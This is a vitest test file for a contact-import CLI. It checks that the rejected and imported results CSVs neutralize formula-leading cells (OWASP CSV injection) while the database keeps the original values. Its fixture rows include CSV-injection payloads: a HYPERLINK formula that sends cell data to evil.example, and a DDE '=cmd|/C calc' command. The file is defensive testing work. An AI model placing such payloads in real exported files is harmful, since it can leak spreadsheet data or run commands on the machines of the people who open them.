// The results files an import writes for people: the rejected rows (original columns, _row,
// _field, _reason) and, on request, the imported rows with their new ids. A spreadsheet opens
// them, so every cell that starts with = + - @ TAB or CR is neutralized (OWASP CSV injection);
// the database keeps the values as they were.
import Database from 'better-sqlite3';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { runCli, scratchDir } from '../helpers/cli.js';
import { csvCell } from '../helpers/generate-contacts.js';
import { byRow, readResultsCsv } from '../helpers/import-runs.js';

const scratch = scratchDir('ci-results-');
const cwd = scratch.dir;
afterAll(() => scratch.cleanup());
let n = 0;
const noRedis = { REDIS_URL: undefined };

const FORMULA = /^[=+\-@\t\r]/;
const HEADER = ['Email Address', 'First Name', 'Last Name', 'Phone Number', 'Company Name', 'Job Title', 'City', 'Notes', '=Secret'];

// Rows 1–4 are imported, 5–8 rejected (invalid email, missing first name, impossible phone, a
// repeated email). Cells of both kinds start with each of the dangerous characters.
const ROWS: string[][] = [
  ['ann@example.com', 'Ann', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1 212 555 4567', '+Plus Corp', '-minus', '@home', '=1+2', '=cmd|/C calc!A0'],
  ['bo@example.com', 'Bo', '@SUM(A1:A9)', '', '-10% off', '\tTabbed title', 'Oslo', '\r\nstarts with CR LF', 'x'],
  ['cy@example.com', '=Cy', 'Lee', '(212) 555-4569', 'Plain, Inc.', 'Engineer', 'Rome', '+ plus note', '@y'],
  ['-dash@example.com', 'Dee', 'Ng', '', '', '', '', 'ok', ''],
  ['=HYPERLINK("http://evil.example")', 'Eve', '+Eve', '', '', '', '', '-note', '=z'],
  ['fay@example.com', '', '@Fay', '', '=Corp', '', '', '', ''],
  ['gus@example.com', 'Gus', 'Ray', '+12', '\tTab corp', '', '', '', ''],
  ['ANN@example.com', '@Ann again', 'Dup', '', '', '', '', '\rCR note', ''],
];

/**
 * The reader drops whitespace before an unquoted value (as most CSV tools do), so cells that
 * start with TAB are quoted to reach the import as they are.
 */
const cell = (value: string) => (/^\s/.test(value) ? `"${value.replace(/"/g, '""')}"` : csvCell(value));

function writeCsv(): string {
  const file = path.join(cwd, `injection-${++n}.csv`);
  fs.writeFileSync(file, [HEADER, ...ROWS].map((cells) => cells.map(cell).join(',')).join('\n') + '\n');
  return file;
}

/** The rule itself, to check each written cell against what the file had. */
const neutralized = (value: string) => (FORMULA.test(value) ? `'${value}` : value);

describe('results files', () => {
  it('neutralize formula cells in the rejected and imported rows; the database keeps them verbatim', async () => {
    const file = writeCsv();
    const db = path.join(cwd, `contacts-${n}.db`);
    const rejected = path.join(cwd, `rejected-${n}.csv`);
    const imported = path.join(cwd, `imported-${n}.csv`);
    const result = await runCli(
      ['run', file, '--auto', '--database', `sqlite:${db}`, '--errors-out', rejected, '--imported-out', imported, '--json', '--home', path.join(cwd, `home-${n}`)],
      { cwd, env: noRedis },
    );
    expect(result.code, result.stderr).toBe(0);
    const summary = result.json();
    expect(summary).toMatchObject({ imported: 4, invalid: 3, duplicates: 1, errorReport: rejected, importedReport: imported });

    const reject = readResultsCsv(rejected);
    expect(reject.header).toEqual([...HEADER.map(neutralized), '_row', '_field', '_reason']);
    const rejectedRows = byRow(reject.records);
    expect(rejectedRows.map((r) => Number(r._row))).toEqual([5, 6, 7, 8]);
    for (const record of rejectedRows) {
      const original = ROWS[Number(record._row) - 1]!;
      expect(HEADER.map((_, i) => record[reject.header[i]!])).toEqual(original.map(neutralized));
    }
    const fieldOf = (row: number) => rejectedRows.find((r) => Number(r._row) === row)!._field;
    expect([5, 6, 7, 8].map(fieldOf)).toEqual(['email', 'firstName', 'phone', 'email']);
    expect(rejectedRows.find((r) => r._row === '8')!._reason).toMatch(/duplicate of row 1/);

    const done = readResultsCsv(imported);
    expect(done.header).toEqual([...HEADER.map(neutralized), '_row', '_id', '_outcome']);
    expect(byRow(done.records).map((r) => [r._row, r._outcome])).toEqual([['1', 'inserted'], ['2', 'inserted'], ['3', 'inserted'], ['4', 'inserted']]);
    for (const record of done.records) {
      const original = ROWS[Number(record._row) - 1]!;
      expect(HEADER.map((_, i) => record[done.header[i]!])).toEqual(original.map(neutralized));
    }

    // No written cell is left that a spreadsheet would run.
    for (const parsed of [reject, done]) {
      const cells = [...parsed.header, ...parsed.records.flatMap((r) => Object.values(r))];
      expect(cells.filter((cell) => FORMULA.test(cell))).toEqual([]);
    }

    // The database has the values as given (trimmed, as every text field is; phones in E.164).
    const conn = new Database(db, { readonly: true });
    const contacts = conn.prepare('SELECT * FROM contacts ORDER BY email').all() as Array<Record<string, unknown>>;
    const ids = new Map(contacts.map((c) => [c.email, c.id]));
    conn.close();
    expect(contacts.map((c) => c.email)).toEqual(['-dash@example.com', 'ann@example.com', 'bo@example.com', 'cy@example.com']);
    const byEmail = Object.fromEntries(contacts.map((c) => [c.email as string, c]));
    expect(byEmail['ann@example.com']).toMatchObject({
      last_name: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      phone: '+12125554567',
      company: '+Plus Corp',
      title: '-minus',
      city: '@home',
      notes: '=1+2',
    });
    expect(byEmail['bo@example.com']).toMatchObject({ last_name: '@SUM(A1:A9)', company: '-10% off', title: 'Tabbed title', notes: 'starts with CR LF' });
    expect(byEmail['cy@example.com']).toMatchObject({ first_name: '=Cy', notes: '+ plus note' });
    for (const record of done.records) {
      expect(Number(record._id)).toBe(ids.get(ROWS[Number(record._row) - 1]![0]!.trim().toLowerCase()));
    }
  });

  it('writes the rejected rows to <home>/results/<importId>.rejected.csv when no --errors-out is given', async () => {
    const file = writeCsv();
    const home = path.join(cwd, `home-${n}`);
    const result = await runCli(['run', file, '--auto', '--database', `sqlite:${path.join(cwd, `default-${n}.db`)}`, '--json', '--home', home], {
      cwd,
      env: noRedis,
    });
    expect(result.code, result.stderr).toBe(0);
    const { importId, errorReport, importedReport } = result.json();
    expect(errorReport).toBe(path.join(home, 'results', `${importId}.rejected.csv`));
    expect(importedReport).toBeNull();
    expect(byRow(readResultsCsv(errorReport).records).map((r) => r._row)).toEqual(['5', '6', '7', '8']);
    expect(fs.readdirSync(path.join(home, 'results'))).toEqual([`${importId}.rejected.csv`]);
  });

  it('writes no rejected file, and reports null, when nothing is rejected and none was asked for', async () => {
    const file = path.join(cwd, 'clean.csv');
    fs.writeFileSync(file, 'Email,First Name\nzed@example.com,Zed\n');
    const home = path.join(cwd, `home-${++n}`);
    const result = await runCli(['run', file, '--auto', '--database', `sqlite:${path.join(cwd, `clean-${n}.db`)}`, '--json', '--home', home], {
      cwd,
      env: noRedis,
    });
    expect(result.code, result.stderr).toBe(0);
    expect(result.json()).toMatchObject({ imported: 1, errorReport: null, importedReport: null });
    expect(fs.existsSync(path.join(home, 'results'))).toBe(false);
  });
});
